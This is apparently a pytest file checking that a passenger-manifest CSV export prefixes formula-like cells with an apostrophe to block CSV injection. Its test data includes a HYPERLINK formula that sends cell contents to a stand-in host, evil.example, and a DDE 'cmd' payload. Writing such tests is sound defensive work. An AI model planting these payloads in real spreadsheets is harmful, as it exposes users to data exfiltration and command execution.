"""#16: the manifest export neutralises spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

from tests.passengers.conftest import Rig, manifest
from tests.passengers.test_manifests import open_group, upload

EVIL = [
    ('=HYPERLINK("http://evil.example/?"&A1)', "13812340001", "T1"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "13812340002", "+T2"),
    ("-2+3", "13812340003", "-T3"),
    ("Plain Name", "13812340004", "=T4"),  # a name with no formula stays as it is
]


def test_cells_starting_with_formula_characters_are_exported_with_an_apostrophe(
    rig: Rig,
) -> None:
    duty = rig.auth("duty_manager")
    group = open_group(rig, rig.declare(), duty)
    rows = [(name, phone, "01A", "01", "zh", ticket) for name, phone, ticket in EVIL]
    made = upload(rig, group, manifest(rows), duty)
    assert made.status_code == 201, made.text
    exported = rig.client().get(f"/api/passenger-groups/{group}/passengers.csv", headers=duty)
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    header, body = table[0], table[1:]
    names = {row[header.index("name")] for row in body}
    tickets = {row[header.index("ticket")] for row in body}
    phones = {row[header.index("phone")] for row in body}
    assert names == {"'" + name for name, _, _ in EVIL[:3]} | {"Plain Name"}
    assert tickets == {"T1", "'+T2", "'-T3", "'=T4"}
    assert phones == {"+86" + phone for _, phone, _ in EVIL}
